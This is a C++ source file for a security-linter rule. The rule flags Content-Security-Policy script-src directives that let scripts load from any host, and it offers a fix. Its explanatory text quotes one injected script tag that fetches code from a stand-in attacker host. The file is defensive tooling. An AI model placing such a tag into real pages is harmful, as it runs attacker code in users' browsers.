#include <vector>

#include "rules/csp/helpers.hpp"
#include "rules/fixes.hpp"
#include "rules/rule.hpp"
#include "text/ascii.hpp"

namespace headstrong::rules::csp_script_any_host {

using namespace csp_rules;

bool is_web(std::string_view scheme) {
  return scheme.empty() || text::iequals(scheme, "http") || text::iequals(scheme, "https");
}

/// Whether the token means every host, whatever port or path it asks for.
bool is_broad(const csp::SourceExpression& token) {
  if (token.kind == csp::SourceKind::Wildcard) return true;
  if (token.kind == csp::SourceKind::Scheme) return is_web(token.scheme());
  return token.kind == csp::SourceKind::Host && token.host() == "*" && is_web(token.scheme());
}

/// Whether a script from some host loads because of these tokens.
bool takes_effect(const Context& context, const csp::SourceExpression& token) {
  if (context.attacks.allowed(Attack::HttpsScript) || context.attacks.allowed(Attack::HttpScript)) {
    return true;
  }
  if (token.kind != csp::SourceKind::Host) return false;
  const std::string url = attackers_address(token);
  decide::Request request;
  request.type = decide::RequestType::Script;
  request.url = url;
  decide::PolicyDecision by;
  return allowed_somewhere(context, request, by);
}

void check(const Context& context, Sink& sink) {
  ScriptList list;
  if (!script_list(context, list)) return;
  std::vector<const csp::SourceExpression*> broad;
  for (const csp::SourceExpression& token : list.policy->tokens_of(*list.directive)) {
    if (is_broad(token)) broad.push_back(&token);
  }
  if (broad.empty() || !takes_effect(context, *broad.front())) return;
  Finding& finding = sink.at(*list.policy, broad.front()->span);
  finding.arguments = {std::string(broad.front()->text), std::string(list.directive->name_text)};
  for (std::size_t i = 1; i < broad.size(); ++i) {
    finding.related.push_back({broad[i]->span, "so does this"});
  }
  offer_fix(finding, "Remove the sources that match any host", Applicability::Suggestion,
            remove_tokens(*list.policy, *list.directive, broad));
}

extern const RuleSpec kRule = {
    {
        .id = "csp/script-any-host",
        .header = "Content-Security-Policy",
        .severity = Severity::High,
        .category = Category::Security,
        .confidence = Confidence::Certain,
        .title = "Scripts may come from any host",
        .message = "{0} in {1} lets scripts load from any host, including an attacker's.",
        .why = "An injected <script src=\"https://attacker.example/x.js\"></script> runs. A list "
               "that covers every host stops nothing that a script tag can load.",
        .advice = "Trust scripts by nonce or hash (with 'strict-dynamic' for what they load), or "
                  "list the few hosts you need, with paths.",
        .references = {"https://www.w3.org/TR/CSP3/#match-url-to-source-expression",
                       "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                       "Content-Security-Policy#host-source"},
        .bad = "script-src 'self' https:",
        .good = "script-src 'self' 'nonce-4AEemGb0xJoptIGFP3Nd9A=='",
    },
    check,
};

}  // namespace headstrong::rules::csp_script_any_host
